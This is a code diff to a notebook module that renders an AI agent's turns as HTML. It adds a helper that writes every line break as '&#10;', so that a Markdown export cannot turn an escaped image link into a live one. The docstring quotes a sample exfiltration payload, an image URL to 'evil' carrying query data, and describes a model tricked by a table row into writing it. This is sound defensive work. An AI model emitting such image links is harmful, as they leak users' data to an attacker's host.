@@ -10,12 +10,21 @@ images turned off (a model tricked by a row into writing ``![](https://evil/?q=<
 not make the notebook send that data anywhere); tables are built by pandas with escaping on.
 Only the first ``max_rows`` of a result are rendered, so a million-row frame costs what a
 twenty-row one does.
+
+The whole trace is one line: every line break (in a ``<pre>``, between table rows) is written
+as the character reference ``&#10;``, which a browser renders exactly as a newline. This is
+for the copies of the output that are not read as HTML alone: ``jupyter nbconvert --to
+markdown`` pastes ``text/html`` into Markdown verbatim, and a Markdown renderer (GitHub, a
+docs site) ends a raw-HTML block at a blank line or after ``</pre>`` and reads the next line
+as Markdown again — where an escaped ``![](https://evil/?q=<data>)`` from a result or a
+refused query's text would become a live image. On one line the trace is one HTML block.
 """
 
 from __future__ import annotations
 
 import base64
 import html
+import re
 from functools import cache
 from typing import TYPE_CHECKING, Any
 
@@ -26,9 +35,18 @@ from relay_nb.facade.transcript import describe_usage, sql_of, status_of
 if TYPE_CHECKING:
     from markdown_it import MarkdownIt
 
-__all__ = ["HTML_PREVIEW_ROWS", "answer_html", "chart_html", "sql_html", "table_html", "turn_html"]
+__all__ = [
+    "HTML_PREVIEW_ROWS",
+    "answer_html",
+    "chart_html",
+    "one_line",
+    "sql_html",
+    "table_html",
+    "turn_html",
+]
 
 HTML_PREVIEW_ROWS = 20
+_LINE_BREAK = re.compile(r"\r\n|\r|\n")
 _STYLE = (
     "<style>.relay-turn{font-family:var(--jp-ui-font-family,sans-serif);font-size:13px}"
     ".relay-turn details{margin:4px 0;border-left:3px solid #8aa;padding-left:8px}"
@@ -51,7 +69,16 @@ def turn_html(turn: TurnResult, *, max_rows: int = HTML_PREVIEW_ROWS) -> str:
     calls = sum(1 for event in turn.events if event.type == "usage")
     usage = describe_usage(turn.usage, turn.model, calls=calls)
     parts.append(f'<div class="relay-usage">{html.escape(usage)}</div></div>')
-    return "".join(parts)
+    return one_line("".join(parts))
+
+
+def one_line(fragment: str) -> str:
+    """``fragment`` with every line break as ``&#10;`` (see the module docstring).
+
+    Only for HTML whose tags and attribute values hold no line breaks (ours, pandas',
+    Pygments', markdown-it's): there, every break is text, where the reference means the same.
+    """
+    return _LINE_BREAK.sub("&#10;", fragment)
 
 
 def _tool_html(index: int, outcome: ToolOutcome, max_rows: int) -> str:
